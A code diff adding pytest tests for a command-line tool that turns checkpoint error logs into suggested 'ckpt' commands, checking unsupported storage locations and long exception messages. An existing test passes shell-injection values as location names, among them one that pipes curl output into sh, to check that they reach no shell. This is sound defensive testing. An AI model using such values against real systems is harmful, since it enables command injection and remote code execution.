@@ -36,6 +36,21 @@ def test_the_location_of_the_text_is_offered_and_not_read(capsys):
     assert "    ckpt explain TEXT /data/ck" in out
 
 
+@pytest.mark.parametrize("location", ["dbfs:/mnt/ck", "wasbs://c@a.blob.core.windows.net/ck", "viewfs://x/ck"])
+def test_no_command_has_a_location_that_ckpt_does_not_open(capsys, location):
+    for text in (f"File {location}/state/0/0/7.delta does not exist", f"java.lang.X: cannot {location}/offsets/7"):
+        out = shown(capsys, [text])
+        assert [line for line in out.splitlines() if line.startswith("    ckpt ") and location in line] == []
+        assert "ckpt check LOCATION --deep" in out
+        assert ("does not open under this name" in " ".join(out.split())) == text.startswith("File")
+
+
+def test_an_unknown_exception_keeps_its_end_and_the_checkpoint_that_it_names(capsys):
+    message = f"java.lang.X: {'very long ' * 200} in s3a://lake/ck/offsets/7 because of Y"
+    out = shown(capsys, [message])
+    assert "because of Y" in " ".join(out.split()) and "ckpt check s3a://lake/ck --deep says whether" in out
+
+
 @pytest.mark.parametrize("name", ["a|curl${IFS}evil.sh|sh", "a`id`", "a;id", "$(id)"])
 def test_a_location_of_the_text_reaches_no_shell(capsys, name):
     """The command is there to be copied, and whoever wrote the log has chosen the location in it."""
